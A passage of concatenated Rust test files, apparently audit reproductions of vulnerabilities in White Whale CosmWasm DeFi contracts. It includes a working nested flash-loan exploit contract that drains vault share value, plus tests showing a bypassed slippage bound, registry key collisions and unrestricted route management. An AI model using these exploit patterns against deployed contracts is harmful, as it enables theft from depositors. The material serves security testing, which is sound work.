        trader.clone(),
        pool,
        &ExecuteMsg::Swap {
            offer_asset: Asset { info: native("abig"), amount: Uint128::new(offer) },
            belief_price: Some(belief_price),
            max_spread: Some(Decimal::percent(1)),
            to: None,
        },
        &[coin(offer, "abig")],
    );
    let received = app.wrap().query_balance(trader, "usmall").unwrap().amount;
    // bound of the property: gross return >= offer / p * (1 - s) - 1 = 36.67 - 1 (no fees here, so
    // gross == net). The unchanged tree lets the swap through with 33.
    assert!(
        res.is_err() || received + Uint128::one() >= Uint128::new(36),
        "swap succeeded with a return of {received}, below (offer / belief_price) * (1 - max_spread) = 36.67"
    );
}
