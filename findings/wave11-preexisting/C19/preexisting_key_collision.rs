use cosmwasm_std::{Addr, Decimal};
use cw_multi_test::{App, ContractWrapper, Executor};
use white_whale_std::fee::Fee;
use white_whale_std::pool_network::asset::{AssetInfo, PairInfo, PairType};
use white_whale_std::pool_network::factory;
use white_whale_std::pool_network::pair::PoolFee;

fn native(d: &str) -> AssetInfo {
    AssetInfo::NativeToken { denom: d.to_string() }
}

#[test]
fn distinct_asset_sets_share_one_registry_key() {
    let mut app = App::default();
    let creator = Addr::unchecked("creator");
    let factory_id = app.store_code(Box::new(
        ContractWrapper::new_with_empty(
            terraswap_factory::contract::execute,
            terraswap_factory::contract::instantiate,
            terraswap_factory::contract::query,
        )
        .with_reply(terraswap_factory::contract::reply),
    ));
    let pair_id = app.store_code(Box::new(
        ContractWrapper::new_with_empty(
            terraswap_pair::contract::execute,
            terraswap_pair::contract::instantiate,
            terraswap_pair::contract::query,
        )
        .with_reply(terraswap_pair::contract::reply),
    ));
    let token_id = app.store_code(Box::new(ContractWrapper::new_with_empty(
        terraswap_token::contract::execute,
        terraswap_token::contract::instantiate,
        terraswap_token::contract::query,
    )));
    let factory_addr = app
        .instantiate_contract(
            factory_id,
            creator.clone(),
            &factory::InstantiateMsg {
                pair_code_id: pair_id,
                trio_code_id: pair_id,
                token_code_id: token_id,
                fee_collector_addr: "fee_collector".to_string(),
            },
            &[],
            "factory",
            None,
        )
        .unwrap();
    for d in ["aaa", "zzzb", "aaaz", "zzb"] {
        app.execute_contract(
            creator.clone(),
            factory_addr.clone(),
            &factory::ExecuteMsg::AddNativeTokenDecimals { denom: d.to_string(), decimals: 6 },
            &[],
        )
        .unwrap();
    }
    let create = |app: &mut App, a: &str, b: &str| {
        app.execute_contract(
            creator.clone(),
            factory_addr.clone(),
            &factory::ExecuteMsg::CreatePair {
                asset_infos: [native(a), native(b)],
                pool_fees: PoolFee {
                    protocol_fee: Fee { share: Decimal::permille(1) },
                    swap_fee: Fee { share: Decimal::permille(1) },
                    burn_fee: Fee { share: Decimal::zero() },
                },
                pair_type: PairType::ConstantProduct,
                token_factory_lp: false,
            },
            &[],
        )
    };
    create(&mut app, "aaa", "zzzb").unwrap();

    // a different asset set: {aaaz, zzb}. It has never been created ...
    // ... yet the registry answers the query for it with the {aaa, zzzb} pair
    let info: PairInfo = app
        .wrap()
        .query_wasm_smart(
            factory_addr.clone(),
            &factory::QueryMsg::Pair { asset_infos: [native("aaaz"), native("zzb")] },
        )
        .unwrap();
    println!("query for [aaaz, zzb] returned {:?}", info.asset_infos);
    assert_eq!(info.asset_infos, [native("aaa"), native("zzzb")]);

    // ... and creating it is refused as a duplicate
    let err = create(&mut app, "aaaz", "zzb").unwrap_err();
    println!("create [aaaz, zzb]: {}", err.root_cause());
}
