//! Reproduction for seeded/PREEXISTING.md: nested flash loans on the UNCHANGED tree.

use cosmwasm_schema::cw_serde;
use cosmwasm_std::{
    coins, to_json_binary, Addr, BankMsg, Binary, Coin, CosmosMsg, Decimal, Deps, DepsMut, Empty,
    Env, MessageInfo, Response, StdResult, Uint128, Uint256, WasmMsg,
};
use cw_multi_test::{App, AppBuilder, BankKeeper, ContractWrapper, Executor};

use white_whale_std::fee::{Fee, VaultFee};
use white_whale_std::pool_network::asset::AssetInfo;
use white_whale_std::vault_network::vault::{
    Config, Cw20HookMsg, ExecuteMsg, InstantiateMsg, ProtocolFeesResponse, QueryMsg,
};

const DENOM: &str = "uluna";

// ---------------------------------------------------------------------------------------------
// a minimal borrower contract: takes a flash loan from a vault and pays back a chosen amount
// ---------------------------------------------------------------------------------------------
#[cw_serde]
enum BorrowerMsg {
    /// ask `vault` for a loan of `amount`, pay back `repay` in the callback
    Start {
        vault: String,
        amount: Uint128,
        repay: Uint128,
    },
    /// called by the vault with the loaned funds
    OnLoan { repay: Uint128 },
    /// outer loan which, inside its callback, takes a second loan from the same vault
    StartNested {
        vault: String,
        outer_amount: Uint128,
        outer_repay: Uint128,
        inner_amount: Uint128,
        inner_repay: Uint128,
    },
    OnOuterLoan {
        outer_repay: Uint128,
        inner_amount: Uint128,
        inner_repay: Uint128,
    },
}

fn borrower_instantiate(
    _deps: DepsMut,
    _env: Env,
    _info: MessageInfo,
    _msg: Empty,
) -> StdResult<Response> {
    Ok(Response::new())
}

fn borrower_execute(
    _deps: DepsMut,
    _env: Env,
    info: MessageInfo,
    msg: BorrowerMsg,
) -> StdResult<Response> {
    match msg {
        BorrowerMsg::Start {
            vault,
            amount,
            repay,
        } => Ok(Response::new().add_message(WasmMsg::Execute {
            contract_addr: vault,
            msg: to_json_binary(&ExecuteMsg::FlashLoan {
                amount,
                msg: to_json_binary(&BorrowerMsg::OnLoan { repay })?,
            })?,
            funds: vec![],
        })),
        BorrowerMsg::StartNested {
            vault,
            outer_amount,
            outer_repay,
            inner_amount,
            inner_repay,
        } => Ok(Response::new().add_message(WasmMsg::Execute {
            contract_addr: vault,
            msg: to_json_binary(&ExecuteMsg::FlashLoan {
                amount: outer_amount,
                msg: to_json_binary(&BorrowerMsg::OnOuterLoan {
                    outer_repay,
                    inner_amount,
                    inner_repay,
                })?,
            })?,
            funds: vec![],
        })),
        BorrowerMsg::OnOuterLoan {
            outer_repay,
            inner_amount,
            inner_repay,
        } => {
            // 1. take (and fully settle) the inner loan, 2. pay back the outer loan
            let mut res = Response::new().add_message(WasmMsg::Execute {
                contract_addr: info.sender.to_string(),
                msg: to_json_binary(&ExecuteMsg::FlashLoan {
                    amount: inner_amount,
                    msg: to_json_binary(&BorrowerMsg::OnLoan { repay: inner_repay })?,
                })?,
                funds: vec![],
            });
            if !outer_repay.is_zero() {
                res = res.add_message(CosmosMsg::Bank(BankMsg::Send {
                    to_address: info.sender.into_string(),
                    amount: coins(outer_repay.u128(), DENOM),
                }));
            }
            Ok(res)
        }
        BorrowerMsg::OnLoan { repay } => {
            let mut res = Response::new();
            if !repay.is_zero() {
                res = res.add_message(CosmosMsg::Bank(BankMsg::Send {
                    to_address: info.sender.into_string(),
                    amount: coins(repay.u128(), DENOM),
                }));
            }
            Ok(res)
        }
    }
}

fn borrower_query(_deps: Deps, _env: Env, _msg: Empty) -> StdResult<Binary> {
    to_json_binary(&Empty {})
}

// ---------------------------------------------------------------------------------------------
// helpers
// ---------------------------------------------------------------------------------------------
struct Suite {
    app: App,
    vault: Addr,
    lp: Addr,
    borrower: Addr,
}

fn setup(balances: Vec<(Addr, Vec<Coin>)>, fees: VaultFee) -> Suite {
    let mut app = AppBuilder::new()
        .with_bank(BankKeeper::new())
        .build(|router, _api, storage| {
            balances.into_iter().for_each(|(account, amount)| {
                router.bank.init_balance(storage, &account, amount).unwrap()
            });
        });

    let cw20_id = app.store_code(Box::new(ContractWrapper::new(
        cw20_base::contract::execute,
        cw20_base::contract::instantiate,
        cw20_base::contract::query,
    )));
    let vault_id = app.store_code(Box::new(
        ContractWrapper::new(
            vault::contract::execute,
            vault::contract::instantiate,
            vault::contract::query,
        )
        .with_reply(vault::reply::reply),
    ));
    let borrower_id = app.store_code(Box::new(ContractWrapper::new(
        borrower_execute,
        borrower_instantiate,
        borrower_query,
    )));

    let owner = Addr::unchecked("owner");
    let vault = app
        .instantiate_contract(
            vault_id,
            owner.clone(),
            &InstantiateMsg {
                owner: owner.to_string(),
                token_id: cw20_id,
                asset_info: AssetInfo::NativeToken {
                    denom: DENOM.to_string(),
                },
                fee_collector_addr: "fee_collector".to_string(),
                vault_fees: fees,
                token_factory_lp: false,
            },
            &[],
            "vault",
            None,
        )
        .unwrap();
    let borrower = app
        .instantiate_contract(borrower_id, owner, &Empty {}, &[], "borrower", None)
        .unwrap();

    let config: Config = app
        .wrap()
        .query_wasm_smart(vault.clone(), &QueryMsg::Config {})
        .unwrap();
    let lp = match config.lp_asset {
        AssetInfo::Token { contract_addr } => Addr::unchecked(contract_addr),
        AssetInfo::NativeToken { .. } => panic!("expected a cw20 LP token"),
    };

    Suite {
        app,
        vault,
        lp,
        borrower,
    }
}

impl Suite {
    fn bank(&self, who: &Addr) -> Uint128 {
        self.app.wrap().query_balance(who, DENOM).unwrap().amount
    }

    fn lp_balance(&self, who: &Addr) -> Uint128 {
        let res: cw20::BalanceResponse = self
            .app
            .wrap()
            .query_wasm_smart(
                self.lp.clone(),
                &cw20::Cw20QueryMsg::Balance {
                    address: who.to_string(),
                },
            )
            .unwrap();
        res.balance
    }

    fn lp_supply(&self) -> Uint128 {
        let res: cw20::TokenInfoResponse = self
            .app
            .wrap()
            .query_wasm_smart(self.lp.clone(), &cw20::Cw20QueryMsg::TokenInfo {})
            .unwrap();
        res.total_supply
    }

    fn pending_fees(&self) -> Uint128 {
        let res: ProtocolFeesResponse = self
            .app
            .wrap()
            .query_wasm_smart(
                self.vault.clone(),
                &QueryMsg::ProtocolFees { all_time: false },
            )
            .unwrap();
        res.fees.amount
    }

    /// (assets owned by the depositors, share supply)
    fn price(&self) -> (Uint128, Uint128) {
        (
            self.bank(&self.vault)
                .checked_sub(self.pending_fees())
                .expect("vault is insolvent against the protocol fee ledger"),
            self.lp_supply(),
        )
    }

    fn deposit(&mut self, who: &Addr, amount: u128) -> Uint128 {
        let before = self.lp_balance(who);
        self.app
            .execute_contract(
                who.clone(),
                self.vault.clone(),
                &ExecuteMsg::Deposit {
                    amount: Uint128::new(amount),
                },
                &coins(amount, DENOM),
            )
            .unwrap();
        self.lp_balance(who) - before
    }

    fn withdraw(&mut self, who: &Addr, lp_amount: Uint128) -> Uint128 {
        let before = self.bank(who);
        self.app
            .execute_contract(
                who.clone(),
                self.lp.clone(),
                &cw20::Cw20ExecuteMsg::Send {
                    contract: self.vault.to_string(),
                    amount: lp_amount,
                    msg: to_json_binary(&Cw20HookMsg::Withdraw {}).unwrap(),
                },
                &[],
            )
            .unwrap();
        self.bank(who) - before
    }
}

/// a/b >= c/d, exactly
fn ratio_ge(a: (Uint128, Uint128), c: (Uint128, Uint128)) -> bool {
    Uint256::from(a.0) * Uint256::from(c.1) >= Uint256::from(c.0) * Uint256::from(a.1)
}

fn assert_price_not_decreased(step: &str, before: (Uint128, Uint128), after: (Uint128, Uint128)) {
    assert!(
        ratio_ge(after, before),
        "C05 violated at step '{step}': assets per share went from {}/{} down to {}/{}",
        before.0,
        before.1,
        after.0,
        after.1
    );
}

#[test]
fn nested_loans_on_the_same_vault_decrease_the_share_price() {
    let alice = Addr::unchecked("alice");
    let bob = Addr::unchecked("bob");
    let carol = Addr::unchecked("carol");
    let mallory = Addr::unchecked("mallory");

    let mut suite = setup(
        vec![
            (alice.clone(), coins(1_000_000, DENOM)),
            (bob.clone(), coins(500_000, DENOM)),
            (carol.clone(), coins(200_000, DENOM)),
            (mallory.clone(), coins(100_000, DENOM)),
        ],
        VaultFee {
            protocol_fee: Fee {
                share: Decimal::permille(5),
            },
            flash_loan_fee: Fee {
                share: Decimal::permille(5),
            },
            burn_fee: Fee {
                share: Decimal::zero(),
            },
        },
    );
    suite.deposit(&alice, 1_000_000);
    suite.deposit(&bob, 500_000);
    suite.deposit(&carol, 200_000);
    // working capital of the borrower: it needs the inner fees up front, gets them back later
    suite
        .app
        .send_tokens(mallory.clone(), suite.borrower.clone(), &coins(20_000, DENOM))
        .unwrap();
    let borrower_before = suite.bank(&suite.borrower.clone());
    let p0 = suite.price();
    assert_eq!(p0, (Uint128::new(1_700_000), Uint128::new(1_700_000)));

    // outer loan L1 = 100_000 (fees 500 + 500), inner loan L2 = 1_600_000 (fees 8_000 + 8_000).
    // inner: old_balance = 1_600_000, callback pays 1_616_000, 8_000 booked as protocol fees.
    // outer: old_balance = 1_700_000, required = 1_701_000, the balance already is 1_616_000, so
    // 85_000 are enough: the outer check counts the inner fees (8_000 of which now belong to the
    // protocol) as repayment of the outer principal.
    let borrower = suite.borrower.clone();
    let vault = suite.vault.clone();
    suite
        .app
        .execute_contract(
            mallory.clone(),
            borrower.clone(),
            &BorrowerMsg::StartNested {
                vault: vault.to_string(),
                outer_amount: Uint128::new(100_000),
                outer_repay: Uint128::new(85_000),
                inner_amount: Uint128::new(1_600_000),
                inner_repay: Uint128::new(1_616_000),
            },
            &[],
        )
        .unwrap();
    let p1 = suite.price();
    println!(
        "price before {}/{}  after {}/{}  pending fees {}  borrower {} -> {}",
        p0.0,
        p0.1,
        p1.0,
        p1.1,
        suite.pending_fees(),
        borrower_before,
        suite.bank(&borrower)
    );
    assert_price_not_decreased("nested flash loans", p0, p1);
}
