use cosmwasm_std::testing::{mock_dependencies, mock_env, mock_info};
use cosmwasm_std::{from_json, Uint64};
use epoch_manager::contract::{execute, instantiate, query};
use white_whale_std::epoch_manager::epoch_manager::*;

const DAY: u64 = 86_400_000_000_000u64;

fn epoch(deps: cosmwasm_std::Deps, id: u64) -> EpochV2 {
    let r: EpochResponse =
        from_json(query(deps, mock_env(), QueryMsg::Epoch { id }).unwrap()).unwrap();
    r.epoch
}

#[test]
fn historical_epoch_query_uses_current_duration_and_future_ids_are_fabricated() {
    let mut deps = mock_dependencies();
    let mut env = mock_env();
    let genesis = env.block.time.plus_seconds(3600);
    instantiate(
        deps.as_mut(),
        env.clone(),
        mock_info("owner", &[]),
        InstantiateMsg {
            start_epoch: EpochV2 { id: 0, start_time: genesis },
            epoch_config: EpochConfig {
                duration: Uint64::new(2 * DAY),
                genesis_epoch: Uint64::new(genesis.nanos()),
            },
        },
    )
    .unwrap();

    env.block.time = genesis.plus_nanos(2 * DAY);
    execute(deps.as_mut(), env.clone(), mock_info("a", &[]), ExecuteMsg::CreateEpoch {}).unwrap();
    env.block.time = genesis.plus_nanos(4 * DAY);
    execute(deps.as_mut(), env.clone(), mock_info("a", &[]), ExecuteMsg::CreateEpoch {}).unwrap();
    // epoch 1 started at genesis + 2d, epoch 2 at genesis + 4d
    assert_eq!(epoch(deps.as_ref(), 1).start_time, genesis.plus_nanos(2 * DAY));

    execute(
        deps.as_mut(),
        env.clone(),
        mock_info("owner", &[]),
        ExecuteMsg::UpdateConfig {
            owner: None,
            epoch_config: Some(EpochConfig {
                duration: Uint64::new(DAY),
                genesis_epoch: Uint64::new(genesis.nanos()),
            }),
        },
    )
    .unwrap();

    println!("epoch1 after update: {:?} (was {:?})", epoch(deps.as_ref(), 1).start_time, genesis.plus_nanos(2 * DAY));
    println!("epoch 7 (future): {:?}; current: {:?}", epoch(deps.as_ref(), 7), epoch(deps.as_ref(), 2));
    assert_eq!(epoch(deps.as_ref(), 1).start_time, genesis.plus_nanos(2 * DAY));
}
