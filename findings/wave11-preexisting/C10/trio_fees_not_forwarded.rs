use cosmwasm_std::{coin, Addr, BlockInfo, Coin, Decimal, Timestamp, Uint128, Uint64};
use cw_multi_test::{App, AppBuilder, BankKeeper, ContractWrapper, Executor};

use white_whale_std::epoch_manager::epoch_manager::EpochConfig;
use white_whale_std::fee::Fee;
use white_whale_std::fee_collector::ExecuteMsg::UpdateConfig;
use white_whale_std::fee_collector::InstantiateMsg;
use white_whale_std::fee_distributor::ExecuteMsg::NewEpoch;
use white_whale_std::fee_distributor::EpochResponse;
use white_whale_std::pool_network;
use white_whale_std::pool_network::asset::{Asset, AssetInfo};
use white_whale_std::pool_network::factory::ExecuteMsg::{AddNativeTokenDecimals, CreateTrio};
use white_whale_std::vault_network;

fn native(denom: &str) -> AssetInfo {
    AssetInfo::NativeToken {
        denom: denom.to_string(),
    }
}

fn store_codes(app: &mut App) -> (u64, u64, u64, u64, u64, u64, u64, u64, u64, u64) {
    let fee_collector = app.store_code(Box::new(
        ContractWrapper::new_with_empty(
            fee_collector::contract::execute,
            fee_collector::contract::instantiate,
            fee_collector::contract::query,
        )
        .with_migrate(fee_collector::contract::migrate)
        .with_reply(fee_collector::contract::reply),
    ));
    let fee_distributor = app.store_code(Box::new(
        ContractWrapper::new_with_empty(
            fee_distributor::contract::execute,
            fee_distributor::contract::instantiate,
            fee_distributor::contract::query,
        )
        .with_reply(fee_distributor::contract::reply)
        .with_migrate(fee_distributor::contract::migrate),
    ));
    let whale_lair = app.store_code(Box::new(
        ContractWrapper::new_with_empty(
            whale_lair::contract::execute,
            whale_lair::contract::instantiate,
            whale_lair::contract::query,
        )
        .with_migrate(whale_lair::contract::migrate),
    ));
    let pool_factory = app.store_code(Box::new(
        ContractWrapper::new_with_empty(
            terraswap_factory::contract::execute,
            terraswap_factory::contract::instantiate,
            terraswap_factory::contract::query,
        )
        .with_reply(terraswap_factory::contract::reply)
        .with_migrate(terraswap_factory::contract::migrate),
    ));
    let pool_router = app.store_code(Box::new(
        ContractWrapper::new(
            terraswap_router::contract::execute,
            terraswap_router::contract::instantiate,
            terraswap_router::contract::query,
        )
        .with_migrate(terraswap_router::contract::migrate),
    ));
    let pair = app.store_code(Box::new(
        ContractWrapper::new_with_empty(
            terraswap_pair::contract::execute,
            terraswap_pair::contract::instantiate,
            terraswap_pair::contract::query,
        )
        .with_reply(terraswap_pair::contract::reply)
        .with_migrate(terraswap_pair::contract::migrate),
    ));
    let trio = app.store_code(Box::new(
        ContractWrapper::new_with_empty(
            stableswap_3pool::contract::execute,
            stableswap_3pool::contract::instantiate,
            stableswap_3pool::contract::query,
        )
        .with_reply(stableswap_3pool::contract::reply)
        .with_migrate(stableswap_3pool::contract::migrate),
    ));
    let token = app.store_code(Box::new(ContractWrapper::new_with_empty(
        terraswap_token::contract::execute,
        terraswap_token::contract::instantiate,
        terraswap_token::contract::query,
    )));
    let vault_factory = app.store_code(Box::new(
        ContractWrapper::new_with_empty(
            vault_factory::contract::execute,
            vault_factory::contract::instantiate,
            vault_factory::contract::query,
        )
        .with_reply(vault_factory::reply::reply)
        .with_migrate(vault_factory::contract::migrate),
    ));
    let vault = app.store_code(Box::new(
        ContractWrapper::new(
            vault::contract::execute,
            vault::contract::instantiate,
            vault::contract::query,
        )
        .with_reply(vault::reply::reply),
    ));

    (
        fee_collector,
        fee_distributor,
        whale_lair,
        pool_factory,
        pool_router,
        pair,
        trio,
        token,
        vault_factory,
        vault,
    )
}

fn balance(app: &App, addr: &Addr, denom: &str) -> Uint128 {
    app.wrap().query_balance(addr, denom).unwrap().amount
}

#[test]
fn trio_protocol_fees_are_not_forwarded() {
    let creator = Addr::unchecked("creator");
    let denoms = ["uwhale", "usdc", "uatom", "ampWHALE", "bWHALE"];

    let initial: Vec<Coin> = denoms.iter().map(|d| coin(1_000_000_000, *d)).collect();
    let mut app = AppBuilder::new()
        .with_bank(BankKeeper::new())
        .build(|router, _api, storage| {
            router
                .bank
                .init_balance(storage, &Addr::unchecked("creator"), initial)
                .unwrap()
        });

    let (
        fee_collector_id,
        fee_distributor_id,
        whale_lair_id,
        pool_factory_id,
        pool_router_id,
        pair_id,
        trio_id,
        token_id,
        vault_factory_id,
        vault_id,
    ) = store_codes(&mut app);

    let fee_collector = app
        .instantiate_contract(
            fee_collector_id,
            creator.clone(),
            &InstantiateMsg {},
            &[],
            "fee_collector",
            None,
        )
        .unwrap();

    // the DAO is just an address holding funds
    let dao = Addr::unchecked("take_rate_dao");

    let pool_factory = app
        .instantiate_contract(
            pool_factory_id,
            creator.clone(),
            &pool_network::factory::InstantiateMsg {
                pair_code_id: pair_id,
                trio_code_id: trio_id,
                token_code_id: token_id,
                fee_collector_addr: fee_collector.to_string(),
            },
            &[],
            "pool_factory",
            None,
        )
        .unwrap();

    let pool_router = app
        .instantiate_contract(
            pool_router_id,
            creator.clone(),
            &pool_network::router::InstantiateMsg {
                terraswap_factory: pool_factory.to_string(),
            },
            &[],
            "pool_router",
            None,
        )
        .unwrap();

    let vault_factory = app
        .instantiate_contract(
            vault_factory_id,
            creator.clone(),
            &vault_network::vault_factory::InstantiateMsg {
                owner: creator.to_string(),
                vault_id,
                token_id,
                fee_collector_addr: fee_collector.to_string(),
            },
            &[],
            "vault_factory",
            None,
        )
        .unwrap();

    let whale_lair = app
        .instantiate_contract(
            whale_lair_id,
            creator.clone(),
            &white_whale_std::whale_lair::InstantiateMsg {
                unbonding_period: Uint64::new(1u64),
                growth_rate: Decimal::one(),
                bonding_assets: vec![native("ampWHALE"), native("bWHALE")],
            },
            &[],
            "whale_lair",
            None,
        )
        .unwrap();

    let fee_distributor = app
        .instantiate_contract(
            fee_distributor_id,
            creator.clone(),
            &white_whale_std::fee_distributor::InstantiateMsg {
                bonding_contract_addr: whale_lair.to_string(),
                fee_collector_addr: fee_collector.to_string(),
                grace_period: Uint64::new(2),
                epoch_config: EpochConfig {
                    duration: Uint64::new(86_400_000_000_000u64),
                    genesis_epoch: Uint64::new(1678802400_000000000u64),
                },
                distribution_asset: native("uwhale"),
            },
            &[],
            "fee_distributor",
            None,
        )
        .unwrap();

    app.execute_contract(
        creator.clone(),
        whale_lair.clone(),
        &white_whale_std::whale_lair::ExecuteMsg::UpdateConfig {
            fee_distributor_addr: Some(fee_distributor.to_string()),
            owner: None,
            unbonding_period: None,
            growth_rate: None,
        },
        &[],
    )
    .unwrap();

    // take rate of 10%
    let take_rate = Decimal::percent(10u64);
    app.execute_contract(
        creator.clone(),
        fee_collector.clone(),
        &UpdateConfig {
            owner: None,
            pool_router: Some(pool_router.to_string()),
            fee_distributor: Some(fee_distributor.to_string()),
            pool_factory: Some(pool_factory.to_string()),
            vault_factory: Some(vault_factory.to_string()),
            take_rate: Some(take_rate),
            take_rate_dao_address: Some(dao.to_string()),
            is_take_rate_active: Some(true),
        },
        &[],
    )
    .unwrap();

    for denom in ["uwhale", "usdc", "uatom"] {
        app.execute_contract(
            creator.clone(),
            pool_factory.clone(),
            &AddNativeTokenDecimals {
                denom: denom.to_string(),
                decimals: 6,
            },
            &[coin(1, denom)],
        )
        .unwrap();
    }

    // a three-asset pool registered in the pool factory
    let res = app
        .execute_contract(
            creator.clone(),
            pool_factory.clone(),
            &CreateTrio {
                asset_infos: [native("uwhale"), native("usdc"), native("uatom")],
                pool_fees: pool_network::trio::PoolFee {
                    protocol_fee: Fee {
                        share: Decimal::percent(5u64),
                    },
                    swap_fee: Fee {
                        share: Decimal::percent(1u64),
                    },
                    burn_fee: Fee {
                        share: Decimal::zero(),
                    },
                },
                amp_factor: 100,
                token_factory_lp: false,
            },
            &[],
        )
        .unwrap();
    let trio = res
        .events
        .iter()
        .flat_map(|event| &event.attributes)
        .find(|attribute| attribute.key == "trio_contract_addr")
        .map(|attribute| Addr::unchecked(attribute.value.clone()))
        .unwrap();

    app.execute_contract(
        creator.clone(),
        trio.clone(),
        &pool_network::trio::ExecuteMsg::ProvideLiquidity {
            assets: [
                Asset {
                    info: native("uwhale"),
                    amount: Uint128::new(10_000_000u128),
                },
                Asset {
                    info: native("usdc"),
                    amount: Uint128::new(10_000_000u128),
                },
                Asset {
                    info: native("uatom"),
                    amount: Uint128::new(10_000_000u128),
                },
            ],
            slippage_tolerance: None,
            receiver: None,
        },
        &[
            coin(10_000_000, "uatom"),
            coin(10_000_000, "usdc"),
            coin(10_000_000, "uwhale"),
        ],
    )
    .unwrap();

    app.execute_contract(
        creator.clone(),
        trio.clone(),
        &pool_network::trio::ExecuteMsg::Swap {
            offer_asset: Asset {
                info: native("usdc"),
                amount: Uint128::new(200_000u128),
            },
            ask_asset: native("uwhale"),
            belief_price: None,
            max_spread: Some(Decimal::percent(30u64)),
            to: None,
        },
        &[coin(200_000, "usdc")],
    )
    .unwrap();

    let pending = |app: &App| -> Vec<Asset> {
        let res: pool_network::trio::ProtocolFeesResponse = app
            .wrap()
            .query_wasm_smart(
                trio.clone(),
                &pool_network::trio::QueryMsg::ProtocolFees {
                    asset_id: None,
                    all_time: None,
                },
            )
            .unwrap();
        res.fees
    };
    let pending_before = pending(&app);
    println!("pending protocol fees in the trio: {:?}", pending_before);
    assert!(pending_before
        .iter()
        .any(|fee| fee.amount > Uint128::new(1_000u128)));

    app.set_block(BlockInfo {
        height: 123456789u64,
        time: Timestamp::from_nanos(1678888800_000000000u64),
        chain_id: "".to_string(),
    });
    app.execute_contract(creator.clone(), fee_distributor.clone(), &NewEpoch {}, &[])
        .unwrap();

    // the epoch was created, but the fees pending in the registered three-asset pool stayed there
    let epoch: EpochResponse = app
        .wrap()
        .query_wasm_smart(
            fee_distributor.clone(),
            &white_whale_std::fee_distributor::QueryMsg::CurrentEpoch {},
        )
        .unwrap();
    assert_eq!(epoch.epoch.id, Uint64::one());
    assert!(epoch.epoch.total.is_empty());
    assert_eq!(pending(&app), pending_before);
    assert_eq!(balance(&app, &fee_distributor, "uwhale"), Uint128::zero());
    assert_eq!(balance(&app, &dao, "uwhale"), Uint128::zero());
    let _ = (pool_router, take_rate);
}
