//! Reproductions for seeded/PREEXISTING.md. Install as
//! contracts/liquidity_hub/pool-network/terraswap_router/tests/c16_router_preexisting.rs and run
//! `cargo test -p terraswap-router --offline --test c16_router_preexisting`.
//! Both tests PASS on the unchanged tree, i.e. the calls by "anyone" succeed.

use std::marker::PhantomData;

use cosmwasm_std::testing::{mock_env, mock_info, MockApi, MockQuerier, MockStorage};
use cosmwasm_std::{
    coins, from_json, to_json_binary, ContractInfoResponse, ContractResult, Empty, OwnedDeps,
    Querier, QuerierResult, QueryRequest, SystemError, SystemResult, Uint128, WasmQuery,
};

use terraswap_router::contract::{execute, instantiate, query};
use white_whale_std::pool_network::asset::{AssetInfo, PairInfo, PairType};
use white_whale_std::pool_network::factory::QueryMsg as FactoryQueryMsg;
use white_whale_std::pool_network::pair::{QueryMsg as PairQueryMsg, SimulationResponse};
use white_whale_std::pool_network::router::{
    ExecuteMsg, InstantiateMsg, QueryMsg, SwapOperation, SwapRoute,
};

/// A chain on which the router was instantiated WITHOUT a wasm admin, with one uluna-uwhale pair.
struct NoAdminQuerier {
    base: MockQuerier,
}

impl Querier for NoAdminQuerier {
    fn raw_query(&self, bin_request: &[u8]) -> QuerierResult {
        let request: QueryRequest<Empty> = match from_json(bin_request) {
            Ok(v) => v,
            Err(e) => {
                return SystemResult::Err(SystemError::InvalidRequest {
                    error: format!("Parsing query request: {e}"),
                    request: bin_request.into(),
                })
            }
        };
        match &request {
            QueryRequest::Wasm(WasmQuery::ContractInfo { .. }) => {
                let mut info = ContractInfoResponse::default();
                info.code_id = 1;
                info.creator = "creator".to_string();
                info.admin = None;
                SystemResult::Ok(ContractResult::Ok(to_json_binary(&info).unwrap()))
            }
            QueryRequest::Wasm(WasmQuery::Smart { contract_addr, msg }) => {
                if contract_addr == "factory" {
                    match from_json(msg).unwrap() {
                        FactoryQueryMsg::Pair { asset_infos } => {
                            SystemResult::Ok(ContractResult::Ok(
                                to_json_binary(&PairInfo {
                                    asset_infos,
                                    contract_addr: "pair0000".to_string(),
                                    liquidity_token: AssetInfo::Token {
                                        contract_addr: "liquidity0000".to_string(),
                                    },
                                    asset_decimals: [6u8, 6u8],
                                    pair_type: PairType::ConstantProduct,
                                })
                                .unwrap(),
                            ))
                        }
                        _ => panic!("unexpected factory query"),
                    }
                } else {
                    match from_json(msg).unwrap() {
                        PairQueryMsg::Simulation { offer_asset } => {
                            SystemResult::Ok(ContractResult::Ok(
                                to_json_binary(&SimulationResponse {
                                    return_amount: offer_asset.amount,
                                    spread_amount: Uint128::zero(),
                                    swap_fee_amount: Uint128::zero(),
                                    protocol_fee_amount: Uint128::zero(),
                                    burn_fee_amount: Uint128::zero(),
                                })
                                .unwrap(),
                            ))
                        }
                        _ => panic!("unexpected pair query"),
                    }
                }
            }
            _ => self.base.handle_query(&request),
        }
    }
}

fn deps_without_admin() -> OwnedDeps<MockStorage, MockApi, NoAdminQuerier> {
    OwnedDeps {
        storage: MockStorage::default(),
        api: MockApi::default(),
        querier: NoAdminQuerier {
            base: MockQuerier::new(&[("anyone", &coins(5, "uluna"))]),
        },
        custom_query_type: PhantomData,
    }
}

/// Route management is reserved to the wasm admin of the router; when the router has none, the
/// check is skipped and anybody manages the routes.
#[test]
fn anyone_manages_the_swap_routes_of_a_router_without_wasm_admin() {
    let mut deps = deps_without_admin();
    instantiate(
        deps.as_mut(),
        mock_env(),
        mock_info("creator", &[]),
        InstantiateMsg {
            terraswap_factory: "factory".to_string(),
        },
    )
    .unwrap();

    let route = SwapRoute {
        offer_asset_info: AssetInfo::NativeToken {
            denom: "uluna".to_string(),
        },
        ask_asset_info: AssetInfo::NativeToken {
            denom: "uwhale".to_string(),
        },
        swap_operations: vec![SwapOperation::TerraSwap {
            offer_asset_info: AssetInfo::NativeToken {
                denom: "uluna".to_string(),
            },
            ask_asset_info: AssetInfo::NativeToken {
                denom: "uwhale".to_string(),
            },
        }],
    };

    execute(
        deps.as_mut(),
        mock_env(),
        mock_info("anyone", &[]),
        ExecuteMsg::AddSwapRoutes {
            swap_routes: vec![route.clone()],
        },
    )
    .expect("on the unchanged tree anybody adds a route");

    let stored: Vec<SwapOperation> = from_json(
        query(
            deps.as_ref(),
            mock_env(),
            QueryMsg::SwapRoute {
                offer_asset_info: route.offer_asset_info.clone(),
                ask_asset_info: route.ask_asset_info.clone(),
            },
        )
        .unwrap(),
    )
    .unwrap();
    assert_eq!(stored, route.swap_operations);

    execute(
        deps.as_mut(),
        mock_env(),
        mock_info("somebody_else", &[]),
        ExecuteMsg::RemoveSwapRoutes {
            swap_routes: vec![route],
        },
    )
    .expect("on the unchanged tree anybody removes a route");
}
